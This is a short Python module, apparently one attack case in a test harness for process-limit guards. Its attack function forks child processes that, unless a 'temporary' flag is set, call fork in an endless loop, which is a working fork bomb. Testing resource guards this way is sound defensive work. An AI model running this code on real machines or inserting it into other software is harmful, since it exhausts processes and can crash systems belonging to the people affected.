"""Forks until nothing more can be started."""

GUARDS = ("processes",)
COSTS = True


import os
import time


def attack(world):
    started = 0
    while started < 120:
        if os.fork() == 0:
            if not world.get("temporary"):
                while True:
                    os.fork()
            time.sleep(3)
            os._exit(0)
        started += 1
    return started
